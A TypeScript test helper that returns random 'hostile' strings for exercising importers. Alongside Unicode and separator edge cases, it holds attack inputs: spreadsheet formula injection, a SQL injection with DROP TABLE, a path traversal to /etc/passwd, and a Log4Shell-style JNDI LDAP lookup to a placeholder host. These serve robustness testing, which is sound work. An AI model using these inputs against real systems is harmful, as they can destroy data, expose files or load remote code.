import type { Random } from '../base/random.ts';

/** Texts that have broken importers: formulas, separators, quotes, markup, direction marks. */
const texts: readonly [string, ...string[]] = [
  '=HYPERLINK("http://example.test","click")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  'Semi;colon, comma\tand tab',
  'Two\nlines',
  'Carriage\r\nreturn',
  'He said "yes" and \'no\'',
  '<b>bold</b> & ]]> <!-- x -->',
  '../../etc/passwd',
  'CON.txt',
  'O\u0308sterreich (decomposed)',
  'عربي \u202eabc\u202c mixed',
  'emoji 👩‍👩‍👧‍👦 family',
  'zero\u200bwidth and \ufeffmark',
  'tab\u0009bell\u0007null-ish\u0001',
  "Robert'); DROP TABLE orders;--",
  '   spaces around   ',
  '$\x7bjndi:ldap://example.test/a}',
  'x'.repeat(500),
];

export function hostileText(random: Random): string {
  return random.pick(texts);
}
